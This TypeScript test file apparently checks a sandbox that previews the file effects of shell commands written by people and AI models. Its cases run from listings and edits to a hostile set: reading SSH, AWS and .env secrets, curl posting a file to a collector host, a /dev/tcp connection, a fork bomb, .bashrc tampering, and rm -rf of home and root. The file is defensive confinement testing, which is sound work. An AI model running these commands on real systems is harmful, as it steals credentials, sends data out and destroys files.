// Commands as people and models write them, with the effects that must be shown before anything happens.
import type { Case } from './case.ts';

const NOTHING: readonly string[] = [];
const IN_GIT = 'inside .git';
const COMMIT = 'git -c user.name=N -c user.email=n@example.org commit -qm work';
const node = (program: string): readonly string[] => ['node', '-e', program];

const LOOKING: readonly Case[] = [
  { name: 'a listing', command: 'ls -la', effects: NOTHING, output: /README\.md/ },
  { name: 'reading', command: 'cat README.md src/*.js | wc -l', effects: NOTHING, output: /^6$/m },
  { name: 'a search', command: 'grep -rn const src', effects: NOTHING, output: /src\/a\.js:1:/ },
  { name: 'a search without a hit', command: 'grep -rn nothing-like-it src', effects: NOTHING, exit: 1 },
  { name: 'an exit code', command: 'exit 42', effects: NOTHING, exit: 42 },
  { name: 'a program that is not there', command: 'no-such-program', effects: NOTHING, exit: 127 },
  {
    name: 'an argument list that no shell sees',
    command: ['echo', '$HOME', ';', 'rm', '*'],
    effects: NOTHING,
    output: /^\$HOME ; rm \*$/m,
  },
  { name: 'a touch that changes only a date', command: 'touch README.md', effects: NOTHING },
  { name: 'a file rewritten with its own bytes', command: 'cp README.md t && mv t README.md', effects: NOTHING },
];

const WRITING: readonly Case[] = [
  { name: 'a new file', command: 'echo hello > new.txt', effects: ['+ new.txt'] },
  { name: 'an append', command: 'echo more >> README.md', effects: ['~ README.md'] },
  { name: 'a file emptied', command: ': > README.md', effects: ['~ README.md'] },
  { name: 'sed in place', command: "sed -i 's/const/let/' src/a.js", effects: ['~ src/a.js'] },
  {
    name: 'sed in place with a backup',
    command: "sed -i.bak 's/const/let/' src/a.js",
    effects: ['+ src/a.js.bak', '~ src/a.js'],
  },
  {
    name: 'perl in place over several files',
    command: "perl -pi -e 's/2/3/g' src/*.js",
    effects: ['~ src/a.js', '~ src/b.js'],
  },
  {
    name: 'a formatter that rewrites one of two',
    command: node(
      "const fs=require('fs');for(const f of ['src/a.js','src/b.js'])fs.writeFileSync(f,fs.readFileSync(f,'utf8').replace('const b','let b'))",
    ),
    effects: ['~ src/a.js'],
  },
  { name: 'tee into two files', command: 'echo x | tee one.txt two.txt', effects: ['+ one.txt', '+ two.txt'] },
  { name: 'a heredoc', command: 'cat > here.txt <<EOF\nline\nEOF', effects: ['+ here.txt'] },
  { name: 'sort onto its own input', command: 'sort -r -o data.csv data.csv', effects: ['~ data.csv'] },
  { name: 'a binary file', command: 'head -c 4096 /dev/urandom > blob.bin', effects: ['+ blob.bin'] },
  {
    name: 'a name with blanks, quotes and a line break',
    command: `echo x > $'a "b" \\n c'`,
    effects: ['+ a "b" \n c'],
  },
  {
    name: 'a folder of folders',
    command: 'mkdir -p one/two/three && echo x > one/two/three/x',
    effects: ['+ one', '+ one/two', '+ one/two/three', '+ one/two/three/x'],
  },
  { name: 'an empty folder', command: 'mkdir nothing-in-it', effects: ['+ nothing-in-it'] },
  { name: 'a hard link', command: 'ln README.md same.md', effects: ['+ same.md'] },
  { name: 'a file cut short', command: 'truncate -s 3 README.md', effects: ['~ README.md'] },
  {
    name: 'an archive unpacked',
    command: 'tar cf /tmp/a.tar src && mkdir out && tar xf /tmp/a.tar -C out',
    effects: ['+ out', '+ out/src', '+ out/src/a.js', '+ out/src/b.js', '+ out/src/deep', '+ out/src/deep/c.txt'],
  },
  {
    name: 'a patch',
    command:
      "printf -- '--- a/README.md\\n+++ b/README.md\\n@@ -1,3 +1,3 @@\\n-# Title\\n+# Other\\n \\n text\\n' | git apply --unsafe-paths -",
    effects: ['~ README.md'],
  },
  { name: '700 new files', command: 'mkdir many && seq 700 | split -l 1 -a 3 - many/', effects: ['+ many'] },
];

const TAKING: readonly Case[] = [
  { name: 'a deletion', command: 'rm docs/guide.md', effects: ['- docs/guide.md'] },
  {
    name: 'rm -rf of a folder',
    command: 'rm -rf src',
    effects: ['- src', '- src/a.js', '- src/b.js', '- src/deep', '- src/deep/c.txt'],
  },
  {
    name: 'rm -rf of everything',
    command: 'rm -rf -- *',
    effects: [
      '- Makefile',
      '- README.md',
      '- data.csv',
      '- docs',
      '- docs/guide.md',
      '- empty.txt',
      '- link',
      '- run.sh',
      '- src',
      '- src/a.js',
      '- src/b.js',
      '- src/deep',
      '- src/deep/c.txt',
    ],
  },
  {
    name: 'rm -rf of the home and of the root',
    command: 'rm -rf ~ / 2>/dev/null',
    effects: NOTHING,
    exit: 1,
    confinedOnly: true,
  },
  { name: 'find with -delete', command: "find . -name '*.md' -delete", effects: ['- README.md', '- docs/guide.md'] },
  { name: 'find with -exec', command: "find src -name '*.js' -exec rm {} +", effects: ['- src/a.js', '- src/b.js'] },
  {
    name: 'a folder emptied and filled again',
    command: 'rm -r src && mkdir src && echo n > src/n.js',
    effects: ['+ src/n.js', '- src/a.js', '- src/b.js', '- src/deep', '- src/deep/c.txt'],
  },
  {
    name: 'a folder replaced by a file',
    command: 'rm -r docs && echo x > docs',
    effects: ['- docs/guide.md', '~ docs'],
  },
];

const MOVING: readonly Case[] = [
  { name: 'a move', command: 'mv README.md READ.md', effects: ['+ READ.md < README.md', '- README.md'] },
  { name: 'a move into a folder', command: 'mv data.csv docs/', effects: ['+ docs/data.csv < data.csv', '- data.csv'] },
  {
    name: 'a folder renamed by mv',
    command: 'mv docs manual',
    effects: ['+ manual', '+ manual/guide.md < docs/guide.md', '- docs', '- docs/guide.md'],
  },
  {
    name: 'a folder renamed by a program',
    command: node("require('fs').renameSync('docs','manual')"),
    effects: ['+ manual', '+ manual/guide.md < docs/guide.md', '- docs', '- docs/guide.md'],
  },
  {
    name: 'a swap',
    command: 'mv src/a.js t && mv src/b.js src/a.js && mv t src/b.js',
    effects: ['~ src/a.js', '~ src/b.js'],
  },
  { name: 'chmod +x', command: 'chmod +x README.md', effects: ['~ README.md'] },
  {
    name: 'chmod of a whole folder',
    command: 'chmod -R go-r src',
    effects: ['~ src/a.js', '~ src/b.js', '~ src/deep/c.txt'],
  },
  { name: 'a link into the workspace', command: 'ln -s src/a.js short', effects: ['+ short'] },
  { name: 'a link out of the workspace', command: 'ln -s /etc/passwd out', effects: ['+ out'] },
  { name: 'a write through a link', command: 'echo more >> link', effects: ['~ README.md'] },
  {
    name: 'a write through a link out of the workspace',
    command: 'ln -s /tmp/outside l && echo x > l',
    effects: ['+ l'],
    confinedOnly: true,
  },
  {
    name: 'a folder put behind a link',
    command: 'mv docs d2 && ln -s d2 docs && echo x > docs/new',
    effects: ['+ d2', '+ d2/guide.md', '+ d2/new', '~ docs'],
  },
  {
    name: 'a link replaced by a folder',
    command: 'rm link && mkdir link && echo x > link/x',
    effects: ['~ link'],
  },
];

const GIT: readonly Case[] = [
  {
    name: 'git status, diff and log',
    command: 'git status --short; git diff; git log --oneline',
    git: true,
    effects: NOTHING,
  },
  { name: 'git commit', command: `echo more >> README.md; ${COMMIT} -a`, git: true, effects: [IN_GIT, '~ README.md'] },
  { name: 'git add', command: 'echo x > new.txt; git add new.txt', git: true, effects: ['+ new.txt', IN_GIT] },
  {
    name: 'git mv of a folder',
    command: 'git mv src lib',
    git: true,
    effects: [
      '+ lib',
      '+ lib/a.js < src/a.js',
      '+ lib/b.js < src/b.js',
      '+ lib/deep',
      '+ lib/deep/c.txt < src/deep/c.txt',
      '- src',
      '- src/a.js',
      '- src/b.js',
      '- src/deep',
      '- src/deep/c.txt',
      IN_GIT,
    ],
  },
  {
    name: 'git checkout throws away a change',
    command: 'echo x > README.md; git checkout -q README.md',
    git: true,
    effects: [IN_GIT],
  },
  { name: 'git clean', command: 'echo x > stray.txt; git clean -fdq', git: true, effects: NOTHING },
  { name: 'git init', command: 'git init -q', effects: [IN_GIT] },
  {
    name: 'a hook planted',
    command: 'printf "#!/bin/sh\\nid\\n" > .git/hooks/pre-commit; chmod +x .git/hooks/pre-commit',
    git: true,
    effects: [IN_GIT],
  },
  {
    name: 'git commit without words',
    command: 'git -c user.name=N -c user.email=n@example.org commit -q --allow-empty',
    git: true,
    effects: [IN_GIT],
    exit: 1,
    output: /editor/,
  },
];

const BUILDING: readonly Case[] = [
  { name: 'make into an ignored folder', command: 'make', effects: NOTHING, byProducts: ['build/'], needs: 'make' },
  { name: 'make of a listing', command: 'make -s list', effects: ['+ list.txt'], needs: 'make' },
  { name: 'make with nothing to do but clean', command: 'make -s clean', effects: NOTHING, needs: 'make' },
  {
    name: 'a log on an ignored path',
    command: 'echo x > debug.log; echo y > kept.txt',
    effects: ['+ kept.txt'],
    byProducts: ['debug.log'],
  },
  {
    name: 'npm test',
    command: 'npm test --silent',
    files: {
      'package.json': '{"scripts":{"test":"node --test"}}',
      'a.test.js': "require('node:test')('works', () => {})\n",
    },
    effects: NOTHING,
    output: /pass 1/,
  },
  {
    name: 'npm run build',
    command: 'npm run --silent build',
    files: { 'package.json': '{"scripts":{"build":"mkdir -p build && cp src/a.js build/"}}' },
    effects: NOTHING,
    byProducts: ['build/'],
  },
  {
    name: 'a python script that imports',
    command: 'python3 main.py',
    files: { 'main.py': 'import other\nprint(other.x)\n', 'other.py': 'x = 1\n' },
    effects: NOTHING,
    byProducts: ['__pycache__/'],
    output: /^1$/m,
    needs: 'python3',
  },
  { name: 'the script that is there', command: 'sh run.sh > ran.txt', effects: ['+ ran.txt'] },
];

const HOSTILE: readonly Case[] = [
  {
    name: 'the environment of the parent',
    command: 'cat /proc/$PPID/environ /proc/1/environ; env',
    effects: NOTHING,
    never: /REHEARSAL_KEY/,
    confinedOnly: true,
  },
  {
    name: 'keys in the home',
    command: 'cat ~/.ssh/* ~/.aws/credentials',
    effects: NOTHING,
    exit: 1,
    never: /top secret/,
    confinedOnly: true,
  },
  {
    name: 'a secret file of the workspace',
    command: 'cat .env',
    effects: NOTHING,
    exit: 1,
    never: /do-not-show-me/,
    confinedOnly: true,
  },
  {
    name: 'curl',
    command: 'curl -sS --max-time 5 -d @README.md https://collector.example.org',
    effects: NOTHING,
    exit: 6,
    wantsNetwork: true,
    needs: 'curl',
    confinedOnly: true,
  },
  {
    name: 'a raw connection',
    command: 'exec 3<>/dev/tcp/192.0.2.1/443',
    effects: NOTHING,
    exit: 1,
    wantsNetwork: true,
    confinedOnly: true,
  },
  {
    name: 'a name as a message',
    command: 'getent hosts secret.collector.example.org',
    effects: NOTHING,
    exit: 2,
    wantsNetwork: true,
    confinedOnly: true,
  },
  { name: 'a fork bomb', command: 'b() { b | b & }; b; sleep 20', effects: NOTHING, exit: 'limit', confinedOnly: true },
  {
    name: 'children in the background',
    command: 'sleep 300 & setsid sleep 300 & (setsid sleep 300 &); echo left',
    effects: NOTHING,
    output: /left/,
  },
  {
    name: 'a command that never ends',
    command: 'echo begun; sleep 300',
    effects: NOTHING,
    exit: 'timeout',
    timeoutMs: 1000,
    output: /begun/,
  },
  { name: 'ten gigabytes of output', command: 'yes | head -c 10000000000', effects: NOTHING, exit: 'limit' },
  {
    name: 'memory without end',
    command: node('const kept = []; for (;;) kept.push(Buffer.alloc(5e7, 1));'),
    effects: NOTHING,
    exit: 1,
    confinedOnly: true,
  },
  {
    name: 'waiting for an answer',
    command: 'read -p "Password: " x; echo "got: $x"',
    effects: NOTHING,
    output: /got: $/m,
  },
  {
    name: 'the shell start-up files',
    command: 'echo "alias ls=evil" >> ~/.bashrc; echo x >> ~/.profile',
    effects: NOTHING,
    confinedOnly: true,
  },
  {
    name: 'a service started through its socket',
    command: 'systemctl --user start evil; systemd-run --user true; docker ps; true',
    effects: NOTHING,
    never: /Running as unit|CONTAINER ID/,
    confinedOnly: true,
  },
  {
    name: 'the system made writable',
    command: 'mount -o remount,rw /usr; touch /usr/evil',
    effects: NOTHING,
    exit: 1,
    confinedOnly: true,
  },
  { name: 'a signal to itself', command: 'kill -9 $$', effects: NOTHING, exit: 'killed' },
  {
    name: 'a device and a pipe',
    command: 'mkfifo pipe; mknod null c 1 3; echo x > kept.txt',
    effects: ['+ kept.txt'],
    confinedOnly: true,
  },
  { name: 'a write beside the workspace', command: 'echo x > ../beside.txt', effects: NOTHING, confinedOnly: true },
  {
    name: 'colours and a title for the terminal',
    command: `printf '\\033]0;title\\007\\033[31mred\\033[0m\\n'`,
    effects: NOTHING,
  },
];

export const CORPUS: readonly Case[] = [...LOOKING, ...WRITING, ...TAKING, ...MOVING, ...GIT, ...BUILDING, ...HOSTILE];
